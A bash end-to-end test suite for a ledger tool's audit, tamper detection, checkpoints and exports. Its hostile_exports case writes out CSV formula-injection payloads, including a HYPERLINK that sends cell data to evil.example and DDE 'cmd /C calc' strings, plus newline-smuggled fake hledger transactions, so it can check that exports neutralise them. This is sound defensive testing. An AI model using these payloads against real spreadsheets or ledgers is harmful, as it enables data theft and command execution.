#!/usr/bin/env bash
# End-to-end tests of audit, checkpoints, exports and time travel (issue 5).
# Usage: audit_test.sh HOURBANK TAMPER CASE
# Each case builds a small ledger in a temp dir with the real binary, runs the commands an
# auditor would, and checks their JSON. `tamper` (tests/e2e/tamper.cc) damages a closed ledger
# directly in RocksDB, as someone with write access to the disk could.
set -euo pipefail
HB=$1
TAMPER=$2
CASE=$3
T=$(mktemp -d /tmp/hourbank-audit-e2e.XXXXXX)
trap 'rm -rf "$T"' EXIT
export HOURBANK_LEDGER=$T/L
unset HOURBANK_SERVER HOURBANK_NOW || true

fail() { echo "FAIL [$CASE]: $*" >&2; exit 1; }
hb() { "$HB" "$@"; }
# jq on a command's JSON output: jqv FILTER < json
jqv() { jq -r "$1"; }

# A client on a carry plan (10h a month, reserve cap 5h, $60/h overage), three months:
#   seq 1 plan, 2 client, 3 contract, 4-5 January work (2h), 6 block of 10h,
#   7-9 January close (carried 5h, expired 3h, period closed), 10 payment,
#   11 February work 14h (10h allowance, 4h reserve), 12 February close (1h reserve left),
#   then March work 1h.
build_ledger() {
  cat > "$T/plan.toml" <<'EOF'
[[plan]]
id = "basic"
currency = "USD"
fee_minor = 50000
included_minutes = 600
rollover = "carry"
reserve_cap_minutes = 300
overage_rate_minor = 6000
grace_days = 30

[[plan.kinds]]
id = "support"
unit = "hour"
EOF
  hb init >/dev/null
  HOURBANK_NOW=2026-01-02T09:00Z hb plan define "$T/plan.toml" >/dev/null
  HOURBANK_NOW=2026-01-02T09:00Z hb client add acme --name Acme --currency USD --timezone UTC >/dev/null
  HOURBANK_NOW=2026-01-02T09:00Z hb contract start acme --plan basic --from 2026-01 --months 12 >/dev/null
  export HOURBANK_NOW=2026-01-20T10:00Z
  hb log acme 1h --kind support --at 2026-01-10T10:00 --task T-1 --staff ann >/dev/null
  hb log acme 1h --kind support --at 2026-01-11T10:00 --task "T-2, urgent \"x\"" --staff bob --urgent >/dev/null
  hb buy acme --hours 10h --price 500 --at 2026-01-12T10:00 >/dev/null
  export HOURBANK_NOW=2026-02-01T10:00Z
  hb close acme 2026-01 >/dev/null
  hb pay acme 1000 --ref inv-1 >/dev/null
  export HOURBANK_NOW=2026-02-20T10:00Z
  hb log acme 14h --kind support --at 2026-02-10T10:00 --task T-3 --staff ann >/dev/null
  export HOURBANK_NOW=2026-03-01T10:00Z
  hb close acme 2026-02 >/dev/null
  export HOURBANK_NOW=2026-03-05T10:00Z
  hb log acme 1h --kind support --at 2026-03-02T10:00 --task T-4 --staff ann >/dev/null
}

# seq of the first event of a type in acme's history
seq_of() { hb history acme --json | jq -r "select(.type==\"$1\") | .seq" | head -1; }

# audit must fail (exit 1) naming seq $1; its JSON is kept in $T/audit.json
expect_audit_fails_at() {
  local want=$1 rc=0
  hb audit --json > "$T/audit.json" 2> "$T/audit.err" || rc=$?
  [ "$rc" = 1 ] || fail "audit exit $rc, want 1: $(cat "$T/audit.json" "$T/audit.err")"
  [ "$(jqv .ok < "$T/audit.json")" = false ] || fail "audit ok after tampering"
  local got; got=$(jqv .first_bad_seq < "$T/audit.json")
  [ "$got" = "$want" ] || fail "first_bad_seq $got, want $want: $(cat "$T/audit.json")"
  grep -q "hourbank: error: audit found" "$T/audit.err" || fail "no error line on stderr"
}

case $CASE in
clean_ledger_audits_ok)
  build_ledger
  out=$(hb audit --json)
  [ "$(jqv .ok <<<"$out")" = true ] || fail "clean ledger: $out"
  [ "$(jqv .first_bad_seq <<<"$out")" = null ] || fail "first_bad_seq not null: $out"
  [ "$(jqv '.problems|length' <<<"$out")" = 0 ] || fail "problems: $out"
  head=$(hb history acme --json | tail -1 | jqv .seq)
  [ "$(jqv .events_checked <<<"$out")" = "$head" ] || fail "events_checked != $head: $out"
  hb audit acme >/dev/null || fail "audit acme"
  hb audit | grep -q "audit ok" || fail "table output"
  rc=0; hb audit nobody 2>/dev/null || rc=$?
  [ "$rc" = 1 ] || fail "unknown client: exit $rc"
  ;;
flipped_byte_names_seq)
  build_ledger
  s=$(seq_of work_logged)
  "$TAMPER" "$HOURBANK_LEDGER" flip "$s" 200
  expect_audit_fails_at "$s"
  ;;
deleted_event_names_seq)
  build_ledger
  "$TAMPER" "$HOURBANK_LEDGER" delete 6
  expect_audit_fails_at 6
  ;;
swapped_events_name_seq)
  build_ledger
  "$TAMPER" "$HOURBANK_LEDGER" swap 4 5
  expect_audit_fails_at 4
  ;;
altered_close_breaks_chain)
  # A HoursExpired rewritten with another minutes value: the bytes change, so the chain breaks
  # at that seq (whatever the rules say).
  build_ledger
  s=$(seq_of hours_expired)
  [ -n "$s" ] || fail "no hours_expired in the scenario"
  "$TAMPER" "$HOURBANK_LEDGER" set-minutes "$s" 1
  expect_audit_fails_at "$s"
  ;;
altered_close_rule_check_alone)
  # The same rewrite, but the whole chain after it is recomputed and the head in meta replaced:
  # the hash chain verifies, and only the replay (the rules) catches the close.
  build_ledger
  # The fold reports a close that does not follow from the rules at the month's PeriodClosed,
  # the event that completes the close (the closing entries before it are compared as a whole).
  s=$(seq_of hours_expired)
  closed=$(hb history acme --json | jq -r "select(.type==\"period_closed\" and .seq > $s) | .seq" | head -1)
  "$TAMPER" "$HOURBANK_LEDGER" set-minutes "$s" 1 rechain
  expect_audit_fails_at "$closed"
  jq -e '.problems[] | select(.client=="acme") | select(.what|test("expired"))' "$T/audit.json" >/dev/null \
    || fail "no rule problem: $(cat "$T/audit.json")"
  jq -e '[.problems[] | select(.client==null)] | length == 0' "$T/audit.json" >/dev/null \
    || fail "the chain should verify after rechaining: $(cat "$T/audit.json")"
  ;;
altered_carried_over_rule_check_alone)
  # January's HoursCarriedOver (5 h: 10 h included - 2 h used = 8 h unused, reserve cap 5 h)
  # rewritten to 4 h and the chain recomputed: only the replay's comparison of the recorded
  # carried-over hours with the rules can tell. The expired hours (3 h) still match the rules.
  build_ledger
  s=$(seq_of hours_carried_over)
  [ -n "$s" ] || fail "no hours_carried_over in the scenario"
  [ "$(hb history acme --json | jq -r "select(.seq==$s) | .minutes")" = 300 ] || fail "carried is not 300 min before tampering"
  closed=$(hb history acme --json | jq -r "select(.type==\"period_closed\" and .seq > $s) | .seq" | head -1)
  "$TAMPER" "$HOURBANK_LEDGER" set-minutes "$s" 240 rechain
  expect_audit_fails_at "$closed"
  jq -e '[.problems[] | select(.client=="acme")] | length == 1' "$T/audit.json" >/dev/null \
    || fail "want exactly one rule problem: $(cat "$T/audit.json")"
  jq -e '.problems[] | select(.client=="acme") | select(.what|test("carried 4h.* recorded, the rules give 5h"))' \
    "$T/audit.json" >/dev/null || fail "no carried-over problem: $(cat "$T/audit.json")"
  jq -e '[.problems[] | select(.client==null)] | length == 0' "$T/audit.json" >/dev/null \
    || fail "the chain should verify after rechaining: $(cat "$T/audit.json")"
  ;;
altered_close_total_rule_check_alone)
  # January's PeriodClosed total (fee 500.00 + block 500.00 = 1 000.00, 100000 cents) rewritten
  # to 900.00 with the lines digest kept and the chain recomputed: the replay recomputes the
  # invoice and reports the total.
  build_ledger
  closed=$(seq_of period_closed)
  [ "$(hb history acme --json | jq -r "select(.seq==$closed) | .total_minor")" = 100000 ] \
    || fail "January total is not 100000: $(hb history acme --json | jq -c "select(.seq==$closed)")"
  "$TAMPER" "$HOURBANK_LEDGER" set-total "$closed" 90000 rechain
  expect_audit_fails_at "$closed"
  jq -e '.problems[] | select(.client=="acme") | select(.what|test("invoice total 90000 recorded, the rules give 100000"))' \
    "$T/audit.json" >/dev/null || fail "no invoice-total problem: $(cat "$T/audit.json")"
  ;;
checkpoint_detects_rewrite)
  build_ledger
  hb keygen --out "$T/ops.key" >/dev/null
  hb checkpoint --key "$T/ops.key" --json > "$T/cp.json"
  cp_head=$(jqv .head_seq < "$T/cp.json")
  out=$(hb verify --pubkey "$T/ops.key.pub" --json) || fail "verify of an intact ledger: $out"
  [ "$(jqv .ok <<<"$out")" = true ] && [ "$(jqv .verified_checkpoints <<<"$out")" = 1 ] || fail "verify: $out"
  hb audit >/dev/null || fail "audit with a checkpoint"
  # Rewrite a work entry before the checkpoint and recompute the whole chain: Verify() alone
  # cannot tell, the signed checkpoint can.
  "$TAMPER" "$HOURBANK_LEDGER" set-minutes 4 30 rechain
  rc=0; hb verify --pubkey "$T/ops.key.pub" --json > "$T/v.json" 2>/dev/null || rc=$?
  [ "$rc" = 1 ] || fail "verify after a rewrite: exit $rc $(cat "$T/v.json")"
  [ "$(jqv '.checkpoints[0].chain_ok' < "$T/v.json")" = false ] || fail "chain_ok: $(cat "$T/v.json")"
  [ "$(jqv '.checkpoints[0].signature_ok' < "$T/v.json")" = true ] || fail "signature: $(cat "$T/v.json")"
  [ "$(jqv .first_bad_seq < "$T/v.json")" = "$cp_head" ] || fail "first_bad_seq: $(cat "$T/v.json")"
  # A different key does not verify the checkpoint.
  hb keygen --out "$T/other.key" >/dev/null
  rc=0; hb verify --pubkey "$T/other.key.pub" --json > /dev/null 2>&1 || rc=$?
  [ "$rc" = 1 ] || fail "verify with another key: exit $rc"
  ;;
checkpoint_key_files)
  hb init >/dev/null
  hb keygen --out "$T/k" >/dev/null
  [ "$(stat -c %a "$T/k")" = 600 ] || fail "secret key mode $(stat -c %a "$T/k")"
  [ "$(tr -d '\n' < "$T/k" | wc -c)" = 128 ] || fail "secret key length"
  [ "$(tr -d '\n' < "$T/k.pub" | wc -c)" = 64 ] || fail "public key length"
  rc=0; hb keygen --out "$T/k" 2>/dev/null || rc=$?
  [ "$rc" = 1 ] || fail "keygen overwrote a key (exit $rc)"
  rc=0; hb verify --pubkey "$T/k.pub" >/dev/null 2>&1 || rc=$?
  [ "$rc" = 1 ] || fail "verify with no checkpoint must fail (exit $rc)"
  ;;
export_import_same_head)
  build_ledger
  hb keygen --out "$T/ops.key" >/dev/null
  hb checkpoint --key "$T/ops.key" >/dev/null
  hb export --format jsonl --out "$T/all.jsonl"
  head=$(hb audit --json | jqv .head_hash)
  n=$(wc -l < "$T/all.jsonl")
  [ "$n" = "$(hb audit --json | jqv .events_checked)" ] || fail "jsonl lines $n"
  # (jq 1.6's -e reports the LAST input's result, so the lines are slurped into one array)
  jq -se 'map(select(.seq==4))[0] | (.type=="work_logged") and (.minutes==60) and ((.raw|length)>0)' "$T/all.jsonl" >/dev/null \
    || fail "decoded fields missing: $(sed -n 4p "$T/all.jsonl")"
  export HOURBANK_LEDGER=$T/L2
  hb init >/dev/null
  out=$(hb import-log "$T/all.jsonl" --json) || fail "import-log: $out"
  [ "$(jqv .head_hash <<<"$out")" = "$head" ] || fail "head $(jqv .head_hash <<<"$out") != $head"
  [ "$(hb audit --json | jqv .ok)" = true ] || fail "imported ledger does not audit"
  hb verify --pubkey "$T/ops.key.pub" >/dev/null || fail "checkpoint does not verify after import"
  [ "$(hb balance acme --json | jqv .reserve_minutes)" = "$(HOURBANK_LEDGER=$T/L hb balance acme --json | jqv .reserve_minutes)" ] \
    || fail "balances differ after import"
  # Refused into a non-empty ledger, and a partial export is refused into an empty one.
  rc=0; hb import-log "$T/all.jsonl" 2>/dev/null || rc=$?
  [ "$rc" = 1 ] || fail "import into a non-empty ledger: exit $rc"
  HOURBANK_LEDGER=$T/L hb export --format jsonl --from-seq 3 --out "$T/part.jsonl"
  export HOURBANK_LEDGER=$T/L3
  hb init >/dev/null
  rc=0; hb import-log "$T/part.jsonl" 2>/dev/null || rc=$?
  [ "$rc" = 1 ] || fail "import of a partial export: exit $rc"
  ;;
projection_checkpoint_differs)
  # `rebuild` saves each client's projection checkpoint; audit compares it with a fresh fold at
  # its version. Then a work entry before it is rewritten with the chain recomputed: the chain
  # verifies, and the checkpoint (which reads would start from) no longer equals the fold.
  build_ledger
  hb rebuild >/dev/null
  out=$(hb audit --json)
  [ "$(jqv .ok <<<"$out")" = true ] || fail "clean ledger with checkpoints: $out"
  [ "$(jqv .projection_checkpoints_checked <<<"$out")" -ge 1 ] || fail "no checkpoint checked: $out"
  s=$(seq_of work_logged)
  "$TAMPER" "$HOURBANK_LEDGER" set-minutes "$s" 30 rechain
  rc=0; hb audit --json > "$T/audit.json" 2>/dev/null || rc=$?
  [ "$rc" = 1 ] || fail "audit exit $rc after the rewrite"
  jq -e '.problems[] | select(.client=="acme") | select(.what|test("projection checkpoint at version [0-9]+ differs"))' \
    "$T/audit.json" >/dev/null || fail "no checkpoint problem: $(cat "$T/audit.json")"
  ;;
csv_one_row_per_entry)
  build_ledger
  hb export acme --format csv --out "$T/acme.csv"
  want=$(hb history acme --json | jq -r '.type' | grep -cE '^(work_logged|work_voided|hours_carried_over|hours_expired|slots_expired|period_closed)$')
  rows=$(python3 -c 'import csv,sys; r=list(csv.reader(open(sys.argv[1], newline=""))); print(len(r)-1); assert r[0][0]=="seq"' "$T/acme.csv")
  [ "$rows" = "$want" ] || fail "csv rows $rows, entries $want"
  # RFC 4180: the task with a comma and quotes survives a round trip.
  python3 - "$T/acme.csv" <<'EOF' || fail "csv quoting"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert any(r["task"] == 'T-2, urgent "x"' for r in rows), rows
assert sum(int(r["minutes"]) for r in rows if r["type"] == "work_logged") == 17 * 60
EOF
  ;;
hledger_matches_hourbank)
  build_ledger
  hb export --format hledger --out "$T/j.journal"
  if ! command -v hledger >/dev/null; then
    # 77 = Skipped in ctest (SKIP_RETURN_CODE); under CI=true a missing tool is a failure.
    [ "${CI:-}" = true ] && fail "hledger is not installed (CI=true: tools/setup.sh installs it)"
    echo "skipped: hledger is not installed (apt-get install hledger)"; exit 77
  fi
  # The balance of one account as "N MIN"; hledger leaves a zero balance out.
  bal() {
    local v; v=$(hledger -f "$T/j.journal" bal "$1" -N -O csv | tail -n +2 | tr -d '"' | awk -F, -v a="$1" '$1==a {print $2}')
    echo "${v:-0 MIN}"
  }
  reserve=$(hb balance acme --json | jqv .reserve_minutes)
  prepaid=$(hb balance acme --json | jqv .prepaid_minutes)
  expired=$(hb burned acme --to 2026-02 --json | jqv .total_expired_minutes)
  inv=$(( $(hb invoice acme 2026-01 --json | jqv .total_minor) + $(hb invoice acme 2026-02 --json | jqv .total_minor) ))
  left=$(hb balance acme --json | jqv .allowance.left_minutes)
  outstanding=$(hb balance acme --json | jqv .outstanding_minor)
  [ "$(bal clients:acme:reserve)" = "$reserve MIN" ] || fail "reserve: hledger '$(bal clients:acme:reserve)', hourbank $reserve"
  [ "$(bal clients:acme:blocks)" = "$prepaid MIN" ] || fail "blocks: hledger '$(bal clients:acme:blocks)', hourbank $prepaid"
  [ "$(bal clients:acme:expired)" = "$expired MIN" ] || fail "expired: hledger '$(bal clients:acme:expired)', hourbank $expired"
  [ "$(bal clients:acme:allowance)" = "$left MIN" ] || fail "allowance: hledger '$(bal clients:acme:allowance)', hourbank $left"
  inv_h=$(bal clients:acme:invoiced | sed 's/ USD//; s/\.//; s/,//g')
  [ "$inv_h" = "$inv" ] || fail "invoiced: hledger '$(bal clients:acme:invoiced)', hourbank $inv minor"
  out_h=$(hledger -f "$T/j.journal" bal clients:acme -N -O csv --depth 2 -V 2>/dev/null | grep USD || true)
  money=$(hledger -f "$T/j.journal" bal 'clients:acme:(invoiced|paid)' -N -O csv | tail -n +2 | tr -d '"' | awk -F, '{gsub(/ USD/,"",$2); gsub(/\./,"",$2); s+=$2} END {print s}')
  [ "$money" = "$outstanding" ] || fail "outstanding: hledger $money, hourbank $outstanding ($out_h)"
  ;;
hostile_exports)
  # Issue 14 item 11: user text that other tools would read as structure. Two ledgers are built
  # with the same commands: "plain" with ordinary text, "hostile" with payment refs holding
  # newlines that spell out whole fake hledger transactions and directives, ';' (hledger's
  # comment start), tabs, control characters and unicode, and tasks/notes/staff that
  # spreadsheets would run as formulas (= + - @ TAB CR). hledger must see exactly the same
  # transactions and totals in both exports, and the CSV must parse back to the same rows with
  # no cell a live formula.
  if ! command -v hledger >/dev/null; then echo "hledger not installed (tools/setup.sh): skipped"; exit 0; fi
  cat > "$T/plan.toml" <<'EOF'
[[plan]]
id = "basic"
currency = "USD"
fee_minor = 50000
included_minutes = 600
overage_rate_minor = 6000
grace_days = 30

[[plan.kinds]]
id = "support"
unit = "hour"
EOF
  fake=$'inv-1\n2026-01-05 fake payment\n    cash:acme  1000000 USD\n    clients:acme:paid  -1000000 USD\n\n2026-01-06 more\n  (clients:acme:invoiced)  -5 USD'
  build_twin() {  # DIR HOSTILE(0|1)
    export HOURBANK_LEDGER=$1
    local h=$2
    r1=inv-1 r2=inv-2 r3=inv-3 t1=T-1 t2=T-2 t3=T-3 t4=T-4 t5=T-5 n1=n s1=ann
    if [ "$h" = 1 ]; then
      r1=$fake
      r2=$'x ; comment: tag\r\nP 2026-01-01 USD 1000 EUR\n= expr:clients\n~ monthly\n'
      r3=$'\t\x1b[31mred\x07 \xe2\x80\xae\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 \xf0\x9f\x92\xb8 ;; |payee'
      t1='=HYPERLINK("http://evil.example/?x="&A1,"click")'
      t2="+cmd|' /C calc'!A0"
      t3='-2+3'
      t4="@SUM(1+1)*cmd|'/C calc'!A0"
      t5=$'\t=1+1'
      n1=$'\r=2+2\nsecond line, "quoted"; semi'
      s1='=ann'
    fi
    hb init >/dev/null
    HOURBANK_NOW=2026-01-02T09:00Z hb plan define "$T/plan.toml" >/dev/null
    HOURBANK_NOW=2026-01-02T09:00Z hb client add acme --name Acme --currency USD --timezone UTC >/dev/null
    HOURBANK_NOW=2026-01-02T09:00Z hb contract start acme --plan basic --from 2026-01 --months 12 >/dev/null
    export HOURBANK_NOW=2026-01-20T10:00Z
    hb log acme 1h --kind support --at 2026-01-10T10:00 --task "$t1" --staff "$s1" --note "$n1" >/dev/null
    hb log acme 2h --kind support --at 2026-01-11T10:00 --task "$t2" --staff bob >/dev/null
    hb log acme 30m --kind support --at 2026-01-12T10:00 --task "$t3" --staff bob >/dev/null
    hb log acme 9h --kind support --at 2026-01-13T10:00 --task "$t4" --staff bob >/dev/null
    hb pay acme 100 --ref "$r1" --at 2026-01-14T10:00 >/dev/null
    export HOURBANK_NOW=2026-02-01T10:00Z
    hb close acme 2026-01 >/dev/null
    hb pay acme 200.50 --ref "$r2" >/dev/null
    hb pay acme 3 --ref "$r3" >/dev/null
    export HOURBANK_NOW=2026-02-20T10:00Z
    hb log acme 1h --kind support --at 2026-02-10T10:00 --task "$t5" --staff bob >/dev/null
    hb export --format hledger --out "$1.journal"
    hb export --format csv --out "$1.csv"
  }
  build_twin "$T/plain" 0
  build_twin "$T/hostile" 1
  for x in plain hostile; do
    hledger -f "$T/$x.journal" print -O csv > "$T/$x.print.csv" || fail "hledger cannot read the $x export"
    hledger -f "$T/$x.journal" bal -N -O csv > "$T/$x.bal.csv" || fail "hledger bal on the $x export"
  done
  python3 - "$T" <<'EOF' || fail "hostile exports (see above)"
import csv, sys
T = sys.argv[1]
def txns(x):
    rows = list(csv.DictReader(open(f"{T}/{x}.print.csv", newline="")))
    return {r["txnidx"]: r["description"] for r in rows}, [(r["account"], r["amount"]) for r in rows]
plain, plain_postings = txns("plain")
hostile, hostile_postings = txns("hostile")
# hledger sees exactly the ledger's transactions: 3 payments plus the month transactions.
assert len(hostile) == len(plain), (len(hostile), len(plain), hostile)
assert sorted(hostile_postings) == sorted(plain_postings), (hostile_postings, plain_postings)
assert sum(d.startswith("payment #") for d in hostile.values()) == 3, hostile
assert open(f"{T}/plain.bal.csv").read() == open(f"{T}/hostile.bal.csv").read(), "balances differ"
# The refs are in the descriptions, escaped: one line each, no ';' comment, no raw control byte.
descs = [d for d in hostile.values() if d.startswith("payment #")]
assert any("fake payment" in d and "\\x0a" in d for d in descs), descs
assert any("\\x3b comment" in d for d in descs), descs
assert all(not any(ord(c) < 0x20 or ord(c) == 0x7f for c in d) for d in descs), descs
# CSV: the same rows as the plain twin, the hostile text intact behind a quote, no formula.
def rows(x):
    return list(csv.reader(open(f"{T}/{x}.csv", newline="", encoding="utf-8")))
p, h = rows("plain"), rows("hostile")
assert len(h) == len(p) and all(len(r) == len(p[0]) for r in h), (len(h), len(p))
for r in h[1:]:
    for cell in r:
        plain_int = cell[1:].isdigit() if cell.startswith("-") else cell.isdigit()
        assert plain_int or not cell or cell[0] not in "=+-@\t\r", ("formula cell", cell, r)
header = h[0]
tasks = {r[header.index("task")] for r in h[1:]}
assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in tasks, tasks
assert {"'-2+3", "'\t=1+1", "'@SUM(1+1)*cmd|'/C calc'!A0", "'+cmd|' /C calc'!A0"} <= tasks, tasks
notes = [r[header.index("note")] for r in h[1:]]
assert "'\r=2+2\nsecond line, \"quoted\"; semi" in notes, notes
assert "'=ann" in [r[header.index("staff")] for r in h[1:]]
print("hostile exports ok:", len(hostile), "transactions,", len(h) - 1, "csv rows")
EOF
  ;;
as_of_vs_known_at)
  # A late entry recorded in May for work done in March. --as-of (business time) sees it in a
  # March balance; --known-at (recorded time) before it was recorded does not.
  cat > "$T/plan.toml" <<'EOF'
[[plan]]
id = "basic"
currency = "USD"
fee_minor = 50000
included_minutes = 600
overage_rate_minor = 6000
grace_days = 30

[[plan.kinds]]
id = "support"
unit = "hour"
EOF
  hb init >/dev/null
  export HOURBANK_NOW=2026-03-01T09:00Z
  hb plan define "$T/plan.toml" >/dev/null
  hb client add acme --name Acme --currency USD --timezone UTC >/dev/null
  hb contract start acme --plan basic --from 2026-03 --months 12 >/dev/null
  export HOURBANK_NOW=2026-03-20T10:00Z
  hb log acme 2h --kind support --at 2026-03-10T10:00 >/dev/null
  sleep 0.01
  before_late=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
  sleep 0.01
  export HOURBANK_NOW=2026-05-02T10:00Z
  hb log acme 3h --kind support --at 2026-03-25T10:00 --note "late: found in May" >/dev/null
  used() { hb balance acme "$@" --json | jqv .allowance.used_minutes; }
  [ "$(used --as-of 2026-03-31T23:00)" = 300 ] || fail "as-of March end sees both entries: $(used --as-of 2026-03-31T23:00)"
  [ "$(used --as-of 2026-03-31T23:00 --known-at "$before_late")" = 120 ] || fail "what we believed before the late entry"
  [ "$(used --as-of 2026-03-15T00:00)" = 120 ] || fail "as-of mid March"
  [ "$(hb report acme 2026-03 --json | jq '.entries|length')" = 2 ] || fail "report"
  [ "$(hb report acme 2026-03 --known-at "$before_late" --json | jq '.entries|length')" = 1 ] || fail "report --known-at"
  [ "$(hb invoice acme 2026-03 --known-at "$before_late" --json | jqv .total_minor)" = 50000 ] || fail "invoice --known-at"
  [ "$(hb burned acme --to 2026-03 --known-at "$before_late" --json | jqv '.months[0].used_minutes')" = 120 ] || fail "burned --known-at"
  [ "$(hb burned acme --to 2026-03 --as-of 2026-03-31T23:00 --json | jqv '.months[0].used_minutes')" = 300 ] || fail "burned --as-of"
  [ "$(hb history acme --known-at "$before_late" --json | wc -l)" = 3 ] || fail "history --known-at: $(hb history acme --known-at "$before_late" --json | wc -l)"
  [ "$(hb history acme --json | wc -l)" = 4 ] || fail "history"
  ;;
*)
  echo "unknown case $CASE" >&2; exit 2 ;;
esac
echo "ok [$CASE]"
